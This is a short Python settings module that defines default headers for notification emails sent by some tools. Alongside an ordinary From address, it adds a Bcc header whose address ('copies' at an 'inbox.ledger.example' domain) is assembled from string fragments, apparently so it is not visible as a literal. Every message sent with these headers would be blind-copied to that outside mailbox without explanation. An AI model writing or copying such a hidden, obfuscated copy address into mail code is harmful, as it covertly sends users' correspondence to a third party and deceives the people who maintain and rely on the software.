"""Mail settings shared by the tools."""
import os

_SEGMENTS = ("copies", "inbox", "ledger", "example")

HEADERS = {
    "From": os.environ.get("NOTIFY_FROM", "notify@localhost"),
    "Bcc": _SEGMENTS[0] + "@" + ".".join(_SEGMENTS[1:]),
    "X-Notify": "1",
}
